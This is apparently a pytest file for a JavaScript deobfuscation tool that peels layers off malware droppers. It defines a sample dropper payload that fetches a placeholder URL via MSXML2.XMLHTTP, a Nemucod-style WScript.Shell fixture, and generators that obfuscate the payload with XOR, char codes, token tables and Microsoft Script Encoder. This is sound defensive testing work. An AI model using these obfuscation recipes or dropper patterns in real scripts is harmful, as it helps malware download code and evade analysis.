"""JavaScript peelers for dropper tricks: indirection, constants, helpers, arrays and decoders.

Rewrites that put literals back (bags, constants, array elements) join the `+` chains they
leave in the same pass, so their layer is followed directly by what reads it.
"""

from __future__ import annotations

import time

import pytest

from tests.unit.scripts.test_peelers_languages import (
    URL,
    Obfuscator,
    assert_recovers,
    contents,
    peel_all,
    rewrite,
    stack,
    stacks,
)
from wingman.core.scripts.peelers.javascript_syntax import quote
from wingman.core.scripts.peelers.vbscript_encoded import _CYCLE, _TAB, _TABLES, decode
from wingman.core.scripts.types import Lang

PAYLOAD = (
    'var x = new ActiveXObject("MSXML2.XMLHTTP");\n'
    f'x.open("GET", "{URL}", false);\n'
    "x.send(); // fetch it\n"
)


def pieces(text: str, size: int = 7) -> list[str]:
    return [text[index : index + size] for index in range(0, len(text), size)]


def property_bag(text: str) -> tuple[str, list[str]]:
    reads = "+".join(f"{{k{n}:{quote(piece)}}}.k{n}" for n, piece in enumerate(pieces(text)))
    return f"eval({reads});", ["js_property_bag", "js_eval"]


def arithmetic(text: str) -> tuple[str, list[str]]:
    codes = ",".join(f"({ord(char) - 7}+7)" for char in text)
    return f"eval(String.fromCharCode({codes}));", [
        "js_arithmetic",
        "js_fromcharcode",
        "js_eval",
    ]


def constants(text: str) -> tuple[str, list[str]]:
    parts = pieces(text)
    names = [f"p{n}" for n in range(len(parts))]
    declared = ", ".join(
        f"{name} = {quote(piece)}" for name, piece in zip(names, parts, strict=True)
    )
    return f"var {declared};\neval({' + '.join(names)});", ["js_constants", "js_eval"]


def constant_calls(text: str) -> tuple[str, list[str]]:
    parts = pieces(text)
    defined = "\n".join(
        f"function f{n}() {{ var v = {quote(piece)}; return v; }}" for n, piece in enumerate(parts)
    )
    calls = " + ".join(f"f{n}()" for n in range(len(parts)))
    return f"{defined}\neval({calls});", ["js_constant_calls", "js_eval"]


def identity(text: str) -> tuple[str, list[str]]:
    calls = " + ".join(f"id({quote(piece)})" for piece in pieces(text))
    return f'function id(s) {{ var junk = "x"; return "" + s + ""; }}\neval({calls});', [
        "js_identity_calls",
        "js_eval",
    ]


def array_constants(text: str) -> tuple[str, list[str]]:
    parts = pieces(text)
    items = ", ".join(f"{index}, {quote(piece)}" for index, piece in enumerate(parts))
    reads = " + ".join(f"t[{2 * index + 1}]" for index in range(len(parts)))
    return f"var t = [{items}];\neval({reads});", ["js_array_constants", "js_eval"]


def split_join(text: str) -> tuple[str, list[str]]:
    return f'eval({quote("§".join(text))}.split("§").join(""));', ["js_split_join", "js_eval"]


def split_helper(text: str) -> tuple[str, list[str]]:
    return (
        'function d(s) {\n  var p = s.split("§");\n  return p.join("");\n}\n'
        f"eval(d({quote('§'.join(text))}));",
        ["js_decoder_helper", "js_eval"],
    )


def unescape_helper(text: str) -> tuple[str, list[str]]:
    body = "".join(f"%{ord(char):02x}" if ord(char) < 256 else char for char in text)
    return f"function u(s) {{ return unescape(s); }}\neval(u('{body}'));", [
        "js_decoder_helper",
        "js_eval",
    ]


def char_array(text: str) -> tuple[str, list[str]]:
    items = ",/**/".join(quote(char, "'") for char in text)
    return f"var c = [{items}];\neval(c.join(''));", ["js_char_array"]


def xor(text: str) -> tuple[str, list[str]]:
    key = [71, 13, 200, 5, 99]
    data = bytes(ord(char) ^ key[index % len(key)] for index, char in enumerate(text))
    return (
        f"var k = new Array({', '.join(map(str, key))}), h = '{data.hex()}', o = '';\n"
        "for (var i = 0; i < h.length; i += 2) "
        "o += String.fromCharCode(parseInt(h.substr(i, 2), 16) ^ k[(i / 2) % k.length]);\n"
        "eval(o);",
        ["js_xor_decoder"],
    )


def token_table(text: str) -> tuple[str, list[str]]:
    alphabet = sorted(set(text))
    token = {char: f"T{chr(97 + n // 26)}{chr(97 + n % 26)}" for n, char in enumerate(alphabet)}
    table = ", ".join(f'"{token[char]}": [3, {quote(char)}]' for char in alphabet)
    run = "-".join(token[char] for char in text)
    return (
        f'var m = {{{table}}};\nvar s = "{run}".split("-"), o = "";\n'
        "for (var i = 0; i < s.length; i++) o += m[s[i]][1];\neval(o);",
        ["js_token_table"],
    )


def script_encoder(text: str) -> tuple[str, list[str]]:
    return encoded(text, "JScript.Encode"), ["js_script_encoder"]


OBFUSCATORS: dict[str, Obfuscator] = {
    "property_bag": property_bag,
    "arithmetic": arithmetic,
    "constants": constants,
    "constant_calls": constant_calls,
    "identity": identity,
    "array_constants": array_constants,
    "split_join": split_join,
    "split_helper": split_helper,
    "unescape_helper": unescape_helper,
    "char_array": char_array,
    "xor": xor,
    "token_table": token_table,
    "script_encoder": script_encoder,
}


@pytest.mark.parametrize("names", stacks(list(OBFUSCATORS)), ids="+".join)
def test_stacked_obfuscation_is_recovered_in_order(names: tuple[str, ...]) -> None:
    text, expected = stack(PAYLOAD, [OBFUSCATORS[name] for name in names])
    assert_recovers(text, Lang.JAVASCRIPT, expected)


def encoded(text: str, engine: str) -> str:
    """Encode a script the way Microsoft's Script Encoder does (the inverse of `decode`)."""
    escapes = {"\n": "@&", "\r": "@#", ">": "@*", "<": "@!", "@": "@$"}
    out: list[str] = []
    for position, char in enumerate(text):
        table = int(_CYCLE[position % 64])
        if char in escapes:
            out.append(escapes[char])
        elif char == _TAB[table]:
            out.append("\t")
        else:
            # '<', '>' and '@' never decode, so their table slots do not count.
            codes = [n for n, found in enumerate(_TABLES[table]) if found == char]
            out.append(chr(0x20 + next(n for n in codes if chr(0x20 + n) not in "<>@")))
    return f'<script language="{engine}">#@~^AAAAAA=={"".join(out)}AAAAAA==^#~@</script>'


def test_script_encoder_round_trips() -> None:
    body = encoded(PAYLOAD, "VBScript.Encode").split("==", 1)[1].rsplit("AAAAAA==", 1)[0]
    assert decode(body) == PAYLOAD


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("/*@cc_on var a = 1; @*/", " var a = 1; "),
        ("/*@cc_on @if (@_jscript_version >= 5) go(); @end @*/", "  go(); "),
    ],
)
def test_cc_on(text: str, expected: str) -> None:
    assert rewrite("js_cc_on", text) == expected


@pytest.mark.parametrize("text", ["/* plain comment */ x();", "var s = '/*@cc_on';"])
def test_cc_on_negative(text: str) -> None:
    assert rewrite("js_cc_on", text) is None


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("x = {a:'W'}.a + {b:\"S\"}['b'];", 'x = "WS";'),
        ("x = {a:'1', a:'2'}.a;", 'x = "2";'),
    ],
)
def test_property_bag(text: str, expected: str) -> None:
    assert rewrite("js_property_bag", text) == expected


@pytest.mark.parametrize("text", ["x = {a:'W'}.b;", "x = {a: y}.a;", "'{a:\"W\"}.a'"])
def test_property_bag_negative(text: str) -> None:
    assert rewrite("js_property_bag", text) is None


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("for(i=(-409+409)/542;i<(67056+528)/528;i++)", "for(i=0/542;i<67584/528;i++)"),
        ("x = 0/542;", "x = 0;"),
        ("f(2*3, (7-9))", "f(6, (-2))"),
        ("x = 7 % 4 - 1;", "x = 3 - 1;"),
    ],
)
def test_arithmetic(text: str, expected: str) -> None:
    assert rewrite("js_arithmetic", text) == expected


@pytest.mark.parametrize("text", ["x = 1/3;", "x = a*2;", "x = 2**3*4;", "'(1+2)'", "x = 5/0;"])
def test_arithmetic_negative(text: str) -> None:
    assert rewrite("js_arithmetic", text) is None


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('sh["Run"](c, 0);', "sh.Run(c, 0);"),
        ("x = WScript['CreateObject'](n)['Open']();", "x = WScript.CreateObject(n).Open();"),
        ("'abc'[\"length\"]", "'abc'.length"),
    ],
)
def test_bracket_access(text: str, expected: str) -> None:
    assert rewrite("js_bracket_access", text) == expected


@pytest.mark.parametrize("text", ['o["a-b"]', 'o["class"]', 'x = ["Run"];', 'o["é"]'])
def test_bracket_access_negative(text: str) -> None:
    assert rewrite("js_bracket_access", text) is None


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            'var a = "WSc", b = "ript";\nx = a + b;',
            'var a = "WSc", b = "ript";\nx = "WScript";',
        ),
        ('a = "F";\nc = a.charAt(0);', 'a = "F";\nc = "F".charAt(0);'),
    ],
)
def test_constants(text: str, expected: str) -> None:
    assert rewrite("js_constants", text) == expected


@pytest.mark.parametrize(
    "text",
    [
        'var a = "x"; a = "y"; z = a + b;',
        'var a = "x"; a += "y"; z = a + b;',
        'var a = "x"; z = f(a);',
        'var a = "x"; z = o.a + b;',
    ],
)
def test_constants_negative(text: str) -> None:
    assert rewrite("js_constants", text) is None


def test_constant_calls_and_immediate_functions() -> None:
    text = 'function w() { return "WScript"; }\nx = w() + (function(){return ".Shell";})();'
    assert rewrite("js_constant_calls", text) == (
        'function w() { return "WScript"; }\nx = "WScript.Shell";'
    )


def test_constant_calls_skip_names_defined_twice() -> None:
    text = 'function w() { return "a"; }\nfunction w() { return "b"; }\nx = w();'
    assert rewrite("js_constant_calls", text) is None


def test_identity_calls() -> None:
    text = 'function p(v){var _x = "s"; return "" + v + "";}\ny = p(a) + p("b");'
    assert rewrite("js_identity_calls", text) == (
        'function p(v){var _x = "s"; return "" + v + "";}\ny = a + "b";'
    )


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('var a = ["nd", -96, 7];\nx = a[0] + a[1];', 'var a = ["nd", -96, 7];\nx = "nd" + (-96);'),
        (
            'function f() {\n  return [ /*x*/ , "em", ];\n}\ny = f()[1] + [ , , 2][2];',
            'function f() {\n  return [ /*x*/ , "em", ];\n}\ny = "em" + 2;',
        ),
    ],
)
def test_array_constants(text: str, expected: str) -> None:
    assert rewrite("js_array_constants", text) == expected


@pytest.mark.parametrize(
    "text", ['var a = ["x"]; a[0] = "y"; z = a[0];', 'var a = ["x"]; a.push("y"); z = a[0];']
)
def test_array_constants_negative(text: str) -> None:
    assert rewrite("js_array_constants", text) is None


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('x = "f?u?n".split("?").join("");', 'x = "fun";'),
        ('x = "c,b,a".split(",").reverse().join("-");', 'x = "a-b-c";'),
        ("x = 'aXbXc'.replace(/X/g, '');", 'x = "abc";'),
        ("x = 'aXbXc'.replace('X', '');", 'x = "abXc";'),
        ("x = 'WScript'.substr(1, 3) + 'Shell'.charAt(0) + 'ab'[1];", 'x = "ScrSb";'),
        ("x = 'RUN'.toLowerCase();", 'x = "run";'),
    ],
)
def test_split_join(text: str, expected: str) -> None:
    assert rewrite("js_split_join", text) == expected


@pytest.mark.parametrize(
    "text", ["x = s.split('?').join('');", "x = 'a.b'.replace(/./g, '');", "x = 'ab'[5];"]
)
def test_split_join_negative(text: str) -> None:
    assert rewrite("js_split_join", text) is None


def test_decoder_helper_string_method() -> None:
    text = 'String.prototype.d = function () {return this.split(",").join("");};\nx = "a,b".d();'
    rewritten = rewrite("js_decoder_helper", text)
    assert rewritten is not None
    assert rewritten.endswith('x = "ab";')


def test_decoder_helper_new_function() -> None:
    text = (
        'var d = new Function("s", \'{var p = s.split("##"); return p.join("");};\');\n'
        'eval(d("r##u##n()"));'
    )
    rewritten = rewrite("js_decoder_helper", text)
    assert rewritten is not None
    assert rewritten.endswith('eval("run()");')


def test_eval_inline_keeps_the_context() -> None:
    text = 'var a = "x";\neval("b = a + 1");\nc();'
    assert rewrite("js_eval_inline", text) == 'var a = "x";\nb = a + 1;\nc();'


@pytest.mark.parametrize("text", ["y(eval('1+1'));", "eval('\\x61()');", "f(eval('a'))"])
def test_eval_inline_negative(text: str) -> None:
    assert rewrite("js_eval_inline", text) is None


def test_eval_of_a_variable() -> None:
    assert contents("js_eval_variable", 'var c = "run()";\neval(c);') == ["run()"]


@pytest.mark.parametrize(
    "text", ['var c = "run()"; c = c + "x"; eval(c);', 'var c = "a"; var c = "b"; eval(c);']
)
def test_eval_of_a_variable_negative(text: str) -> None:
    assert contents("js_eval_variable", text) == []


def test_char_array_needs_code() -> None:
    letters = ",".join(f"'{chr(97 + n)}'" for n in range(26))
    assert contents("js_char_array", f"var alphabet = [{letters}];") == []


def test_xor_needs_its_decoder_in_the_text() -> None:
    text, _ = xor(PAYLOAD)
    assert contents("js_xor_decoder", text.replace("^", "+")) == []


def test_token_table_needs_every_token() -> None:
    text, _ = token_table(PAYLOAD)
    assert contents("js_token_table", text.replace('"Taa"', '"Tzz"', 1)) == []


def test_a_nemucod_style_dropper_peels_to_its_urls() -> None:
    text = (
        'var a = "WScr", b = "ipt.Shell", c = "MSXML2.XML", d = "HTTP";\n'
        "function id(v){return v;}\n"
        "var s = WScript[{k:'CreateObject'}.k](id(a) + b);\n"
        'var x = WScript["CreateObject"](c + d);\n'
        f'x["open"]("GET", "{URL}", false);\n'
    )
    layers, stopped = peel_all(text, Lang.JAVASCRIPT)
    assert stopped is None
    last = layers[-1].content
    assert 'WScript.CreateObject("WScript.Shell")' in last
    assert f'x.open("GET", "{URL}", false)' in last


def test_replace_helper_resolves_nested_calls_from_the_inside() -> None:
    text = (
        "function r(s, a, b) { return s.split(a).join(b); }\n"
        'var sep = ":";\n'
        'eval(r(r("WScr?pt:2EShell", sep, "%"), "?", "i"));'
    )
    first = rewrite("js_replace_helper", text)
    assert first is not None
    assert first.endswith('eval(r("WScr?pt%2EShell", "?", "i"));')
    assert rewrite("js_replace_helper", first) == first.replace(
        'r("WScr?pt%2EShell", "?", "i")', '"WScript%2EShell"'
    )


def test_replace_helper_needs_literal_arguments() -> None:
    text = "function r(s, a, b) { return s.split(a).join(b); }\nx = r(input, ':', '%');"
    assert rewrite("js_replace_helper", text) is None


def test_eval_inline_of_an_assigned_eval() -> None:
    text = 'var r = eval("var k = 1; k");\nuse(k);'
    assert rewrite("js_eval_inline", text) == "var k = 1; k\nvar r = undefined;\nuse(k);"


HOSTILE = {
    "escaped_quotes": '"' + '\\"' * 50_000 + '"',
    "open_array": "x = [" + "1, " * 30_000,
    "array_of_holes": "x = [" + ", /**/" * 20_000 + "][0]",
    "bags": "{a:'b'," * 20_000,
    "functions": "function f(" * 10_000,
    "identifier_run": "a" * 100_000 + " = function(x){",
    "helpers": "function r(s, a, b) { return s.split(a).join(b); }\n" + "r(r(" * 10_000,
    "arithmetic": "(1+" * 30_000,
    "tokens": '"' + "Ab-" * 30_000 + '".split("-")',
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_dropper_text_peels_in_time(name: str) -> None:
    start = time.monotonic()
    layers, stopped = peel_all(HOSTILE[name], Lang.JAVASCRIPT)
    assert layers[0].content == HOSTILE[name]
    assert stopped is None or "layers" in stopped
    assert time.monotonic() - start < 3


def test_many_evals_of_one_name_cost_one_pass() -> None:
    start = time.monotonic()
    assert contents("js_eval_variable", "eval(a)" * 14_000) == []
    assert time.monotonic() - start < 1
